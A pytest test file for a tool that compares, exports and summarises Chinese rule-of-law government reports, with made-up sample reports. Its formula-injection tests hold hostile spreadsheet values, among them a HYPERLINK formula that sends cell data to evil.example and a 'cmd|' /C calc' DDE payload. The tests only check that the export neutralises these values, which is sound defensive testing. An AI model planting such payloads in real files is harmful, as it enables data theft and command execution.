"""Compare, export and stats over a small corpus: the dev reports plus two
made-up follow-up reports (so that two units have two years)."""
from __future__ import annotations

import csv
import io
import json
import re
import statistics
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from fazhi.cli import main
from fazhi.corpus import compare, db, export, store
from fazhi.corpus.stats import corpus_stats, histogram, quartiles
from fazhi.model import PART_LABELS, REQUIRED_PARTS
from fazhi.pipeline import analyze_path, analyze_text

DEV = Path(__file__).parent / "data" / "dev"
IND = "mediation.cases"

LIHU_2023 = """荔湖街道关于2023年度法治政府建设情况的报告

一、2023年推进法治政府建设的主要举措和成效
全年成功处理矛盾纠纷850宗，其中家庭纠纷120宗。开展法治宣传60次，提供法律咨询约300人次。

二、存在的不足和原因
法治宣传形式单一，主要是专职人员不足。

三、党政主要负责人履行推进法治建设第一责任人职责情况
街道党工委书记召开专题会议4次。

四、2024年推进法治政府建设的主要安排
2024年6月底前完成合同审查制度修订。

荔湖街道办事处
2024年3月20日
"""

LIJIA_2023 = """礼嘉街道办事处关于2023年度法治政府建设情况的报告

一、2023年推进法治政府建设的主要举措和成效
全年调解矛盾纠纷300余起，开展普法宣传活动35场。

二、存在的不足和原因
普法宣传针对性不强，主要是基层力量薄弱。

三、2024年推进法治政府建设的主要安排
继续做好矛盾纠纷化解工作。

礼嘉街道办事处
2024年5月10日
"""


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    path = tmp_path_factory.mktemp("corpus") / "t.db"
    eng = db.connect(path)
    for f in sorted(DEV.glob("*.txt")):
        store.add_report(eng, analyze_path(f))
    store.add_report(eng, analyze_text(LIHU_2023, "lihu-2023.txt"))
    store.add_report(eng, analyze_text(LIJIA_2023, "lijia-2023.txt"))
    return eng, str(path)


def _reports(eng) -> list[dict]:
    with eng.connect() as c:
        return [dict(m) for m in c.execute(select(db.reports)).mappings()]


def _facts(eng, ind=IND) -> dict[int, list[dict]]:
    out: dict[int, list[dict]] = {}
    with eng.connect() as c:
        for m in c.execute(select(db.facts).where(db.facts.c.indicator == ind)).mappings():
            out.setdefault(m["report_id"], []).append(dict(m))
    return out


def _expected_headline(fs: list[dict]) -> tuple[float, bool]:
    exact = [f["value"] for f in fs if not f["approx"]]
    if exact:
        return max(exact), False
    return max(f["value"] for f in fs), True


def _run(*args):
    r = CliRunner().invoke(main, list(args))
    return r


# ---------------------------------------------------------------- compare
def test_corpus_has_two_units_with_two_years(corpus):
    eng, _ = corpus
    years: dict[str, set] = {}
    for r in _reports(eng):
        years.setdefault(r["unit"], set()).add(r["year"])
    assert years["荔湖街道"] == {2022, 2023}
    assert years["礼嘉街道"] == {2022, 2023}


def test_unit_table_matches_facts_and_is_ranked(corpus):
    eng, _ = corpus
    facts = _facts(eng)
    res = compare.unit_table(eng, IND)
    rows = res["rows"]
    assert {r["report_id"] for r in rows} == set(facts)
    assert res["missing"] == len(_reports(eng)) - len(facts)
    for r in rows:
        value, approx = _expected_headline(facts[r["report_id"]])
        assert r["value"] == value and r["approx"] == approx
        assert r["mentions"] == len(facts[r["report_id"]])
        assert sorted(r["values"]) == sorted(f["value"] for f in facts[r["report_id"]])
    values = [r["value"] for r in rows]
    assert values == sorted(values, reverse=True)
    assert rows[0]["rank"] == 1
    for a, b in zip(rows, rows[1:]):
        assert b["rank"] == (a["rank"] if a["value"] == b["value"] else rows.index(b) + 1)
    assert res["label"] == "调解矛盾纠纷数"


def test_unit_table_year_filter_and_approx(corpus):
    eng, _ = corpus
    res = compare.unit_table(eng, IND, year=2023)
    assert {r["year"] for r in res["rows"]} == {2023}
    by_unit = {r["unit"]: r for r in res["rows"]}
    assert by_unit["荔湖街道"]["value"] == 850 and by_unit["荔湖街道"]["mentions"] == 2
    lj = by_unit["礼嘉街道"]
    assert lj["approx"] and lj["display"] == "300余"
    assert compare.unit_table(eng, IND, level="县级")["rows"] == []


def test_group_table_by_year(corpus):
    eng, _ = corpus
    facts = _facts(eng)
    reps = {r["id"]: r for r in _reports(eng)}
    exp: dict[int, list[float]] = {}
    for rid, fs in facts.items():
        exp.setdefault(reps[rid]["year"], []).append(_expected_headline(fs)[0])
    res = compare.group_table(eng, IND, "year")
    rows = {r["key"]: r for r in res["rows"]}
    assert set(rows) == {r["year"] for r in reps.values()}
    for y, r in rows.items():
        xs = exp.get(y, [])
        assert r["reports"] == sum(1 for x in reps.values() if x["year"] == y)
        assert r["stating"] == len(xs)
        if xs:
            assert r["sum"] == sum(xs)
            assert r["median"] == statistics.median(xs)
            assert (r["min"], r["max"]) == (min(xs), max(xs))
        else:
            assert r["sum"] is None and r["median"] is None
    keys = [r["key"] for r in res["rows"]]
    assert keys == sorted(keys)  # years in order
    top = max(res["rows"], key=lambda r: r["sum"] or 0)
    assert top["rank"] == 1


def test_group_table_rate_has_no_sum(corpus):
    eng, _ = corpus
    res = compare.group_table(eng, "mediation.success_rate", "level")
    assert res["metric"] == "mean"
    assert all(r["sum"] is None for r in res["rows"])


def test_overview_and_bad_input(corpus):
    eng, _ = corpus
    res = compare.overview_table(eng)
    assert len(res["rows"]) == len(_reports(eng))
    assert res["headers"][IND].startswith("调解矛盾纠纷数（")
    with pytest.raises(compare.CompareError, match="未知指标"):
        compare.unit_table(eng, "mediation.case")
    with pytest.raises(compare.CompareError, match="未知层级"):
        compare.unit_table(eng, IND, level="国家级")


def test_cli_table(corpus):
    eng, path = corpus
    r = _run("corpus", "table", "--db", path, "--indicator", IND, "--format", "csv")
    assert r.exit_code == 0, r.output
    assert r.output.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(r.output.lstrip("\ufeff"))))
    assert rows[0][:5] == ["排名", "单位", "层级", "地区", "年度"]
    assert rows[0][5].startswith("调解矛盾纠纷数")
    expect = compare.unit_table(eng, IND)["rows"]
    assert [(x[1], int(x[4]), float(x[5])) for x in rows[1:]] == [(e["unit"], e["year"], e["value"]) for e in expect]

    r = _run("corpus", "table", "--db", path, "-i", IND, "--by", "year")
    assert r.exit_code == 0, r.output
    assert "按年度汇总" in r.output and "中位数" in r.output and "2023" in r.output
    r = _run("corpus", "table", "--db", path, "-i", IND)
    assert r.exit_code == 0 and "按单位排名" in r.output and "300余" in r.output
    r = _run("corpus", "table", "--db", path)
    assert r.exit_code == 0 and "常用指标对比" in r.output
    r = _run("corpus", "table", "--db", path, "-i", "nope.cases")
    assert r.exit_code == 2 and "未知指标" in r.output


# ---------------------------------------------------------------- export
@pytest.fixture(scope="module")
def workbook(corpus, tmp_path_factory):
    from openpyxl import load_workbook

    _, path = corpus
    out = tmp_path_factory.mktemp("xlsx") / "out.xlsx"
    r = _run("corpus", "export", str(out), "--db", path)
    assert r.exit_code == 0, r.output
    assert "已导出" in r.output
    return load_workbook(out)


def _header_index(ws, row=1) -> dict[str, int]:
    return {c.value: c.column - 1 for c in ws[row] if c.value is not None}


def test_xlsx_sheets_and_format(corpus, workbook):
    wb = workbook
    names = wb.sheetnames
    assert names[:6] == ["概况", "报告清单", "问题清单", "督办清单", "抄袭雷同", "逐年对比"]
    assert names[-3:] == ["合规矩阵", "报告信息", "无法读取"]
    assert "矛盾纠纷化解" in names
    # one sheet per topic that some report states (a topic too wide for A4 goes on in “（续1）”)
    hl_topics = {export.topic_title(d) for t, d in compare.topic_names().items()
                 if any(c.get("topic") == t for c in compare.catalog().values())}
    topic_sheets = [n for n in names[6:-3] if "（续" not in n]
    assert set(topic_sheets) <= hl_topics and len(topic_sheets) >= 5
    for name in names[1:]:
        ws = wb[name]
        assert ws.freeze_panes and ws.freeze_panes[-1] == "2", name
        assert all(c.font.bold for c in ws[1] if c.value is not None), name
        assert ws.auto_filter.ref.startswith("A1:")
        assert ws.page_setup.orientation in ("landscape", "portrait")
        assert ws.print_title_rows == "$1:$1"
        assert len(name) <= 31 and not set(name) & set("[]:*?/\\")
        assert all((ws.column_dimensions[c].width or 0) >= export.WIDTH_MIN for c in "AB")


def test_xlsx_reports_sheet(corpus, workbook):
    eng, _ = corpus
    ws = workbook["报告清单"]
    h = _header_index(ws)
    for col in ("编号", "单位", "层级", "地区", "年度", "标题", "发布日期", "总分", "雷同比例",
                "完整性", "时效性", "缺少的法定部分", "错误数", "警告数", "雷同提示"):
        assert col in h
    rows = [r for r in ws.iter_rows(min_row=2, values_only=True) if isinstance(r[0], int)]
    assert len(rows) == len(_reports(eng))
    lihu = next(r for r in rows if r[h["单位"]] == "荔湖街道" and r[h["年度"]] == 2022)
    rep = next(r for r in _reports(eng) if r["unit"] == "荔湖街道" and r["year"] == 2022)
    assert lihu[h["编号"]] == rep["id"]
    assert lihu[h["层级"]] == "乡镇(街道)"
    assert lihu[h["总分"]] == rep["score_total"] and isinstance(lihu[h["总分"]], (int, float))
    assert isinstance(lihu[h["年度"]], int) and isinstance(lihu[h["错误数"]], int)
    assert lihu[h["发布日期"]].date().isoformat() == rep["published"]
    missing = next(r for r in rows if r[h["单位"]] == "桃源县")[h["缺少的法定部分"]]
    assert missing.split("、") == [export.PART_SHORT[p] for p in ("shortcomings", "leader_duty", "next_year")]
    info = workbook["报告信息"]
    hi = _header_index(info)
    for col in ("编号", "单位", "年度", "标题", "发布日期", "成文日期", "发文字号", "省", "市", "县", "文件"):
        assert col in hi
    got = next(r for r in info.iter_rows(min_row=2, values_only=True) if r[0] == rep["id"])
    assert got[hi["文件"]] == rep["path"]


def test_xlsx_topic_sheet_values(corpus, workbook):
    eng, _ = corpus
    ws = workbook["矛盾纠纷化解"]
    h = _header_index(ws)
    col = next(k for k, v in h.items() if k.startswith("调解矛盾纠纷数（"))
    got = {}
    for r in ws.iter_rows(min_row=2):
        v = r[h[col]]
        if v.value is not None:
            assert isinstance(v.value, (int, float))
            assert v.number_format.endswith("#,##0") or v.number_format.startswith("#,##0")
            got[(r[1].value, r[2].value)] = v.value
    exp = {(x["unit"], x["year"]): x["value"] for x in compare.unit_table(eng, IND)["rows"]}
    assert got == exp
    approx = next(r for r in ws.iter_rows(min_row=2) if r[1].value == "礼嘉街道" and r[2].value == 2023)
    assert approx[h[col]].number_format == '#,##0"余"'
    rate = next(k for k in h if k.startswith("调解成功率"))
    assert rate.endswith("（%）")
    assert next(k for k in h if k.startswith("调解涉及金额")).endswith("（元）")


def test_xlsx_findings_and_matrix(corpus, workbook):
    eng, _ = corpus
    reps = {r["id"]: r for r in _reports(eng)}
    with eng.connect() as c:
        finds = [dict(m) for m in c.execute(select(db.findings)).mappings()]
    ws = workbook["问题清单"]
    h = _header_index(ws)
    rows = [r for r in ws.iter_rows(min_row=2, values_only=True) if isinstance(r[0], int)]
    assert len(rows) == len(finds)
    assert {r[h["级别"]] for r in rows} <= {"错误", "警告", "提示"}
    assert all(len(r[h["原文片段"]] or "") <= 60 for r in rows)
    assert any(r[h["原文片段"]] for r in rows)

    ws = workbook["合规矩阵"]
    head = list(ws[1])
    rule_of_col = {c.column - 1: c.comment.text.split("（")[0] for c in head[3:]}
    assert all(c.comment is not None for c in head[3:])
    body = [r for r in ws.iter_rows(min_row=2, values_only=True) if isinstance(r[0], int)]
    assert len(body) == len(reps)
    bad = {(reps[f["report_id"]]["unit"] or "（未识别单位）", reps[f["report_id"]]["year"], f["rule"])
           for f in finds if f["severity"] in ("error", "warning")}
    marked = set()
    for r in body:
        for k, rule in rule_of_col.items():
            assert r[k] in ("✗", "✓")
            if r[k] == "✗":
                marked.add((r[1], r[2], rule))
    assert marked == bad
    assert len(ws.conditional_formatting) > 0


def test_xlsx_year_filter_and_title(corpus, tmp_path):
    from openpyxl import load_workbook

    eng, _ = corpus
    out = tmp_path / "y.xlsx"
    res = export.export(eng, out, year=2023, title="2023年度汇总")
    assert res["reports"] == sum(1 for r in _reports(eng) if r["year"] == 2023)
    ws = load_workbook(out)["报告清单"]
    assert ws["A1"].value == "2023年度汇总" and ws["A2"].value == "编号"
    assert ws.freeze_panes == "C3" and ws.print_title_rows == "$2:$2"
    assert {r[4] for r in ws.iter_rows(min_row=3, values_only=True) if isinstance(r[0], int)} == {2023}


def test_csv_export(corpus, tmp_path):
    eng, path = corpus
    out = tmp_path / "out.csv"
    r = _run("corpus", "export", str(out), "--db", path)
    assert r.exit_code == 0, r.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == export.REPORT_HEADERS
    assert len(rows) == 1 + len(_reports(eng))
    assert any(r[1] == "荔湖街道" and r[6] == "2023" for r in rows[1:])
    assert {int(r[0]) for r in rows[1:]} == {r["id"] for r in _reports(eng)}


def test_parquet_export(corpus, tmp_path):
    import duckdb

    eng, path = corpus
    out = tmp_path / "out.parquet"
    r = _run("corpus", "export", str(out), "--db", path)
    assert r.exit_code == 0, r.output
    paths = export.parquet_paths(out)
    assert paths["facts"].name == "out.facts.parquet" and paths["findings"].name == "out.findings.parquet"
    with eng.connect() as c:
        n = {t.name: len(c.execute(select(t.c.id)).all()) for t in (db.reports, db.facts, db.findings)}
    con = duckdb.connect()
    for name, p in paths.items():
        assert con.execute("SELECT count(*) FROM read_parquet(?)", [str(p)]).fetchone()[0] == n[name]
    types = dict(con.execute("SELECT column_name, column_type FROM (DESCRIBE SELECT * FROM read_parquet(?))",
                             [str(paths["reports"])]).fetchall())
    assert types["year"] == "INTEGER" and types["published"] == "DATE" and types["score_total"] == "DOUBLE"
    assert types["parts_missing"] == "VARCHAR[]"
    total = con.execute("SELECT sum(value) FROM read_parquet(?) WHERE indicator = ?",
                        [str(paths["facts"]), IND]).fetchone()[0]
    assert total == sum(f["value"] for fs in _facts(eng).values() for f in fs)
    assert con.execute("SELECT count(*) FROM read_parquet(?) WHERE severity = 'error'",
                       [str(paths["findings"])]).fetchone()[0] == sum(x["n_errors"] for x in _reports(eng))


def test_bad_extension(corpus, tmp_path):
    _, path = corpus
    r = _run("corpus", "export", str(tmp_path / "x.txt"), "--db", path)
    assert r.exit_code == 2 and "不支持的导出格式" in r.output


# ---------------------------------------------------------------- stats
def test_stats_consistent_with_db(corpus):
    eng, _ = corpus
    reps = _reports(eng)
    n = len(reps)
    st = corpus_stats(eng)
    assert st["reports"] == n
    with eng.connect() as c:
        have = {(rid, p) for rid, p in c.execute(select(db.parts.c.report_id, db.parts.c.part))}
        rules = {(rid, rule) for rid, rule in c.execute(select(db.findings.c.report_id, db.findings.c.rule))}
    for p in REQUIRED_PARTS:
        k = sum(1 for r in reps if (r["id"], p) in have)
        assert st["timeliness"]["parts"][p]["count"] == k
        assert st["timeliness"]["parts"][p]["share"] == pytest.approx(k / n, abs=1e-4)
    assert st["timeliness"]["all_parts"] == sum(all((r["id"], p) in have for p in REQUIRED_PARTS) for r in reps)
    late = sum(1 for r in reps if (r["id"], "timeliness.deadline") in rules)
    dated = sum(1 for r in reps if r["published"] or r["signed"])
    assert st["timeliness"]["late"] == late and late >= 1
    assert st["timeliness"]["dated"] == dated
    assert st["timeliness"]["unknown"] == n - dated
    assert sum(st["timeliness"][s] for s in ("on_time", "premature", "late", "unknown")) == n
    by_year = {r["key"]: r for r in st["by"]["year"]}
    assert by_year[2023]["reports"] == sum(1 for r in reps if r["year"] == 2023)
    assert by_year[2023]["late"] == 1  # 礼嘉街道 2023: 2024-05-10
    assert sum(r["reports"] for r in st["by"]["level"]) == n
    totals = [r["score_total"] for r in reps]
    s = st["scores"]["total"]
    assert s["count"] == n and s["mean"] == pytest.approx(statistics.fmean(totals), abs=0.01)
    q = statistics.quantiles(totals, n=4, method="inclusive")
    assert (s["q1"], s["median"], s["q3"]) == pytest.approx(q, abs=0.01)
    assert sum(b["count"] for b in st["histogram"]) == n


def test_quartiles_and_histogram_edges():
    assert quartiles([])["count"] == 0
    assert quartiles([5])["median"] == 5
    h = histogram([0, 9.9, 10, 100, 95])
    assert [b["count"] for b in h] == [2, 1, 0, 0, 0, 0, 0, 0, 0, 2]


def test_cli_stats(corpus):
    _, path = corpus
    r = _run("corpus", "stats", "--db", path, "--format", "json")
    assert r.exit_code == 0, r.output
    d = json.loads(r.output)
    assert d["reports"] > 0 and set(d["by"]) == {"level", "region", "year"}
    r = _run("corpus", "stats", "--db", path, "--by", "level")
    assert r.exit_code == 0, r.output
    for word in ("发布与时效", "按层级", "法定部分", "评分分布", "总分分布"):
        assert word in r.output


# ---------------------------------------------------------------- helpers
def test_excerpt_and_sheet_names():
    text = "甲" * 100 + "目标文字" + "乙" * 100
    s = export.excerpt(text, 100, 104)
    assert "目标文字" in s and len(s) <= 60
    assert len(export.excerpt(text, 0, 204)) == 60
    assert export.excerpt(text, None, None) == ""
    used: set[str] = set()
    assert export.sheet_name("a[b]:c*d?e/f\\g", used) == "abcdefg"
    assert len(export.sheet_name("长" * 40, used)) == 31
    assert export.sheet_name("abcdefg", used) == "abcdefg(2)"
    assert export.topic_title("矛盾纠纷化解 (人民调解、行政复议)") == "矛盾纠纷化解"
    assert export.text_width("ab中文") == 6


# ---------------------------------------------------------------- both databases
def test_same_results_on_sqlite_and_postgresql(db_url, tmp_path):
    """compare / export / stats through the one data layer on SQLite and PostgreSQL."""
    import duckdb

    eng = db.connect(db_url)
    for f in sorted(DEV.glob("seed-*.txt")):
        store.add_report(eng, analyze_path(f))
    store.add_report(eng, analyze_text(LIHU_2023, "lihu-2023.txt"))
    store.add_report(eng, analyze_text(LIJIA_2023, "lijia-2023.txt"))
    facts = _facts(eng)
    rows = compare.unit_table(eng, IND)["rows"]
    assert [(r["unit"], r["year"], r["value"]) for r in rows] == [
        ("荔湖街道", 2023, 850), ("荔湖街道", 2022, 700), ("礼嘉街道", 2023, 300), ("礼嘉街道", 2022, 222),
        ("阴平镇", 2019, 18)]
    assert all(r["value"] == _expected_headline(facts[r["report_id"]])[0] for r in rows)
    by_year = {r["key"]: r for r in compare.group_table(eng, IND, "year")["rows"]}
    assert by_year[2023]["sum"] == 1150 and by_year[2022]["median"] == 461
    st = corpus_stats(eng)
    assert st["reports"] == 5 and st["timeliness"]["late"] == 1
    out = tmp_path / "pg.parquet"
    export.export(eng, out)
    con = duckdb.connect()
    assert con.execute("SELECT count(*) FROM read_parquet(?)", [str(out)]).fetchone()[0] == 5
    res = export.export(eng, tmp_path / "pg.xlsx")
    assert res["reports"] == 5


# ---------------------------------------------------------------- formula injection
EVIL = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "unit": "=HYPERLINK(\"http://evil.example/\",\"荔湖街道\")",
    "path": "@SUM(1+1)*cmd|' /C calc'!A0.txt",
    "doc_number": "+1+2",
    "county": "-2+3",
    "city": "\t=1+1",
    "province": "\r=1+1",
}


@pytest.fixture
def evil_db(tmp_path):
    path = tmp_path / "evil.db"
    eng = db.connect(path)
    text = "=1+1 这一段以等号开头\n" + (DEV / "seed-004.txt").read_text(encoding="utf-8")
    rows = store.rows_of(analyze_text(text, "evil.txt"))
    rows["report"].update(EVIL, sha256="e" * 64)
    with eng.begin() as c:
        store.insert(c, rows)
    return eng, str(path)


def test_formula_like_text_is_text_in_xlsx(evil_db, tmp_path):
    import zipfile

    from openpyxl import load_workbook

    eng, path = evil_db
    out = tmp_path / "evil.xlsx"
    r = _run("corpus", "export", str(out), "--db", path, "--title", "=1+2 标题")
    assert r.exit_code == 0, r.output
    with zipfile.ZipFile(out) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        for n in sheets:
            assert "<f>" not in z.read(n).decode("utf-8"), n       # no formula anywhere
    wb = load_workbook(out)
    ws = wb["报告清单"]
    head = [c.value for c in ws[2]]
    row = {h: c for h, c in zip(head, ws[3])}
    info = wb["报告信息"]
    row_info = {h: c for h, c in zip([c.value for c in info[2]], info[3])}
    assert ws["A1"].value == "=1+2 标题" and ws["A1"].data_type == "s"
    for sheet_row, col, key in ((row, "单位", "unit"), (row, "标题", "title"), (row_info, "文件", "path"),
                                (row_info, "发文字号", "doc_number"), (row_info, "县", "county"),
                                (row_info, "市", "city"), (row_info, "省", "province")):
        cell = sheet_row[col]
        assert cell.value == EVIL[key], (col, cell.value)       # shown exactly as written
        assert cell.data_type == "s" and cell.quotePrefix, col  # and kept text when edited
    region = row["地区"]                                          # province + city + county: "\r=1+1…"
    assert region.value == EVIL["province"] + EVIL["city"] + EVIL["county"]
    assert region.data_type == "s" and region.quotePrefix
    # the unit shows the same on every sheet; the excerpt of the finding sheet too
    for name in wb.sheetnames:
        for r_ in wb[name].iter_rows():
            for c in r_:
                if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r":
                    assert c.data_type == "s" and c.quotePrefix, (name, c.coordinate, c.value)
    # ordinary text is untouched: no quote prefix on a plain unit elsewhere
    assert not row["层级"].quotePrefix


def test_formula_like_text_is_quoted_in_csv(evil_db, tmp_path):
    eng, path = evil_db
    out = tmp_path / "evil.csv"
    assert _run("corpus", "export", str(out), "--db", path).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    rec = dict(zip(rows[0], rows[1]))
    for col, key in (("单位", "unit"), ("标题", "title"), ("文件", "path"), ("发文字号", "doc_number"),
                     ("县", "county"), ("市", "city"), ("省", "province")):
        assert rec[col] == "'" + EVIL[key], (col, rec[col])
    assert rec["层级"] and not rec["层级"].startswith("'")
    # corpus table --format csv too
    r = _run("corpus", "table", "--indicator", "mediation.cases", "--format", "csv", "--db", path)
    assert r.exit_code == 0, r.output
    body = list(csv.reader(io.StringIO(r.output.lstrip("\ufeff"))))
    assert body[1][1] == "'" + EVIL["unit"] and body[1][-1] == "'" + EVIL["path"]



def test_lines_needed_equals_the_character_loop():
    """The shortcuts of ``lines_needed`` (one line at a glance, one width throughout) give what
    laying the characters one by one gives."""
    import random

    def by_char(v, width):
        if not isinstance(v, str) or not v:
            return 1
        room = max(export.FONT_PT, width * export.PT_PER_UNIT - export.CELL_PAD_PT)
        n = 0
        for part in v.split("\n"):
            lines, used = 1, 0.0
            for ch in part:
                w = export.FONT_PT if export._WIDE.match(ch) else export.PT_PER_UNIT
                if used + w > room and used > 0:
                    lines, used = lines + 1, w
                else:
                    used += w
            n += lines
        return n

    rng = random.Random(1)
    alphabet = ["字", "a", "1", "，", "\n", " ", "Ａ", "é", "𠀀"]
    for _ in range(20000):
        kinds = rng.sample(alphabet, rng.randint(1, 3))
        v = "".join(rng.choice(kinds) for _ in range(rng.randint(0, 300)))
        w = rng.randint(1, 70)
        assert export.lines_needed(v, w) == by_char(v, w), (v, w)


def _sheet_xml(tmp_path, name: str, write) -> bytes:
    """The worksheet XML of a one-sheet workbook made as ``export`` makes its workbooks."""
    import zipfile

    import xlsxwriter

    path = tmp_path / f"{name}.xlsx"
    wb = xlsxwriter.Workbook(str(path), {
        "constant_memory": True, "tmpdir": str(tmp_path), "strings_to_formulas": False,
        "strings_to_numbers": False, "strings_to_urls": False, "nan_inf_to_errors": True,
        "default_format_properties": {"font_name": export.FONT_NAME, "font_size": export.FONT_PT}})
    ws = wb.add_worksheet("表", worksheet_class=export._sheet_class())
    write(ws, export._Styles(wb))
    wb.close()
    with zipfile.ZipFile(path) as z:
        return z.read("xl/worksheets/sheet1.xml")


def test_fast_rows_write_what_xlsxwriter_itself_writes(tmp_path):
    """``_fast_rows`` writes the table rows' XML itself, beside xlsxwriter's internals (its row
    file, dimensions, format indexes).  Written through xlsxwriter's own calls instead (``_put``,
    ``_row_height``), the same rows must give the same sheet, byte for byte: this fails when an
    xlsxwriter release changes what the shortcut relies on."""
    import datetime as dt

    widths, wraps = [8, 12, 30, 10, 10], [False, True, True, False, False]
    aligns = ["top_wrap" if w else "top" for w in wraps]
    fmts = [export.FMT_YEAR, None, None, "0.0%", None]
    rows = [
        [1, "北京市人民政府", "行政复议" * 30, 0.25, dt.date(2024, 3, 31)],
        [2, "=HYPERLINK(\"http://x\")", "  前后空格  ", export.Val(0.5, "0.00"), True],
        [3, "", None, float("nan"), "a<b>&c\r\n_x000D_\x07"],
        [4, "@单位", "第一行\n第二行\n第三行", export.Val(None), 12345678901234567],
        [None, None, None, None, None],
        [5, "+1", "-2", float("inf"), "𠀀字" * 40],
    ]

    def fast(ws, styles):
        ws.fast_rows(styles, rows, 1, widths, wraps, fmts, aligns)

    def stock(ws, styles):
        for r, row in enumerate(rows, start=1):
            lines = 1
            for k, v in enumerate(row):
                fmt = fmts[k]
                if isinstance(v, export.Val):
                    fmt, v = v.fmt, v.value
                if v is None:
                    continue
                if wraps[k] and isinstance(v, str):
                    lines = max(lines, export.lines_needed(v, widths[k]))
                export._put(ws, styles, r, k, v, align=aligns[k], fmt=fmt)
            export._row_height(ws, r, round(lines * export.LINE_PT + export.ROW_PAD_PT, 1) if lines > 1 else None)

    a, b = _sheet_xml(tmp_path, "fast", fast), _sheet_xml(tmp_path, "stock", stock)
    # the two make their formats in another order: the style indexes aside, the same XML ...
    strip = re.compile(rb' s="\d+"')
    assert strip.sub(b"", a) == strip.sub(b"", b)
    # ... and every cell the same style
    from openpyxl import load_workbook

    def cells(name):
        ws = load_workbook(tmp_path / f"{name}.xlsx").active
        return [(c.coordinate, c.value, c.data_type, c.number_format, c.quotePrefix, c.alignment.wrap_text,
                 c.alignment.vertical, c.font.b, c.font.sz, c.font.name) for row in ws.iter_rows() for c in row]
    assert cells("fast") == cells("stock")


def test_headlines_one_pass_equals_the_chunked_queries(corpus, monkeypatch):
    """The workbook's one pass over the indicators' facts gives what the per-chunk queries give
    (values, tie-breaks, quotes): both paths on the same reports, the chunk made small enough
    that there are several."""
    from fazhi.corpus import compare

    eng, _path = corpus
    with eng.connect() as conn:
        ids = [r["id"] for r in compare.report_rows(conn)]
        inds = list(compare.catalog())
        monkeypatch.setattr(compare, "_CHUNK", 2)
        monkeypatch.setattr(compare, "ONE_PASS_CHUNKS", 10 ** 6)
        chunked = compare.headlines(conn, inds, ids)
        monkeypatch.setattr(compare, "ONE_PASS_CHUNKS", 0)
        one_pass = compare.headlines(conn, inds, ids)
    assert len(ids) > 4 and chunked
    assert one_pass == chunked
